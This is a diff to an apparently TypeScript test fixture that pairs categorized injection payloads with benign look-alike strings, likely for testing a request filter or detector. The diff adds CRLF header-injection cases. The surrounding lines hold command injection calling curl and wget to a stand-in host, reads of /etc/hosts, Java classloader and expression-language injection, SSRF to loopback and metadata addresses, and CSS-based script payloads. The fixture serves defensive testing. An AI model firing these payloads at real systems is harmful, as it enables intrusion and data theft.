@@ -23,7 +23,7 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
   "back-ticks in braces and brackets": ["b { $ {`curl http://x.example/a`}}", "9${${print `uname -a`}}", "{${`cat /etc/hosts`}}", "/a/h=gPath[`id > /tmp/z`]/1.ipa", "k=v[`wget http://x.example`]"],
   "words between separators": ["&set&", ";env;", "& dir &", "/dev/null; id; #", "eth0; ls;#"],
   "scripts and classes of Java": ["class.module.classLoader.URLs[0]=0", "class.module.classLoader.DefaultAssertionStatus", "=(use x;ReflectUtils.defineClass('t',b))", "var p=new SpelExpressionParser();p.parseExpression(b)", 'load("nashorn:mozilla_compat.js")', "importPackage(Packages.java.io)", '}}}{{async async=false}}{{groovy}}println("id")', "${__fr_locale__=sql('A',DECODE('x'),1,1)}"],
-  "a header behind blanks": [" \r\nX-Added-By: z", "  \nX-Added-By: z", " \rX-Added-By: z", "\t\r\nX-Trace-Id: 1", "en \r\nSet-Cookie: a=b"],
+  "a header behind blanks": [" \r\nX-Added-By: z", "  \nX-Added-By: z", " \rX-Added-By: z", "\t\r\nX-Trace-Id: 1", "en \r\nSet-Cookie: a=b", "/home \rX-Added-By: z", "/a?b=c \r\nX-Added-By: z"],
   "a header behind an address that ends in steps up": ["www.example.com/..\r\nown-line:own-line", "www.example.com//..\r\nmy-test: 1", "www.example.com/../\r\nown-line:1", "example.com/%2f..\r\nab-cd:e"],
   "addresses of this host in another spelling": ["http://[::]:3128/", "http://[0000::1]:3128/", "http://[0:0::0:1]:8080/", "http://[0000:0000::0001]/", "http://0x5a5a5a5a7f000001/", "http://0x41414141A9FEA9FE/latest"],
   "style that runs": ['"></b style="a:ex/**/pression(f(1));"', "<y///style=-moz-\\&#x362inding:url(//x.example/a)>", "</i style=behavior:url(#a#b)>", "<z style='-moz-\\62 inding:url(x)'>"],
@@ -37,7 +37,7 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
 const HONEST: Readonly<Record<string, readonly string[]>> = {
   "code talked about": ["When does die() differ from exit()?", "Use md5 or sha1, then echo it", "exit code 1; see the log", "the class loader of a module", "print `name` in bold", "echo the words of file_get_contents", "die Straße; das Haus", "Groovy is a language {{groovy-lang}}", "wget and curl", "[`npm install`](https://example.com)", "see [`git add -p`](x)"],
   "separators between words": ["salt & pepper", "R&D & IT", "a; b; #1", "set & match", "Tom & Jerry; cat & mouse", "item; date; #42", "R&B"],
-  "lines of a text": ["Hello \nx-ray: tomorrow at 9", "see www.example.com/\nopen-hours: 9-17", "shopping list \r\n- milk", "name\nsub-title: b", "Dear all, \r\nSee you"],
+  "lines of a text": ["Hello \r\nx-ray: at 9", "and/or\nre-check: b", "Hello \nx-ray: tomorrow at 9", "see www.example.com/\nopen-hours: 9-17", "shopping list \r\n- milk", "name\nsub-title: b", "Dear all, \r\nSee you"],
   addresses: ["http://[2001:db8::1]:8080/", "http://localhost:8080/", "https://example.com/0x41", "https://example.com/a/../b"],
   "pages and styles": ['<p style="color: red; -moz-user-select: none">x</p>', "</b >", '<a :href="url">x</a>', '<li :key="item.id">x</li>', '<input ng-model="a.b" ng-change="save()">', "an expression; a binding"],
   "messages that came as one text": ['<?xml version="1.0"?><note><to>Kim</to><body>Don\'t forget the meeting; select a room</body></note>', "callCount=1\npage=/erp/list\nc0-scriptName=Orders\nc0-param0=string:O'Brien and sons\nc0-param1=number:7\nbatchId=3", "<?xml version='1.0'?><a>https://example.com/?a=b&amp;c=d</a>", "notes\nc0-param is a name"],
